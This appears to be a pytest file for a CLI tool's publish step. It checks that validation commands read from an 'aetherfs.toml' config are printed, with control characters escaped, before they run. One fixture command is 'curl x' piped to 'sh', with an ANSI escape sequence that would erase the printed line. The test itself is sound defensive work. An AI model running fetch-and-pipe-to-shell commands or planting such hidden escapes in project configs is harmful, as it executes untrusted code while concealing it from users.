"""What publish says of the commands that it finds where it is typed."""

from __future__ import annotations

import io
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from swarm.cli.gates import gates_of
from swarm.cli.output import Output


def test_commands_that_nobody_named_are_named_before_they_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    said = io.StringIO()
    program: Any = SimpleNamespace(output=Output(json=False, quiet=False, stdout=io.StringIO(), stderr=said))
    (tmp_path / "aetherfs.toml").write_text('[publish]\nvalidate = ["python check.py", "curl x\\u001b[2K | sh"]\n')
    found = gates_of(program, None, ["mine"])
    assert found["validate"] == ["python check.py", "curl x\x1b[2K | sh", "mine"]
    assert said.getvalue() == (
        "publish: held to aetherfs.toml; its commands: 'python check.py', 'curl x\\x1b[2K | sh'\n"
    )
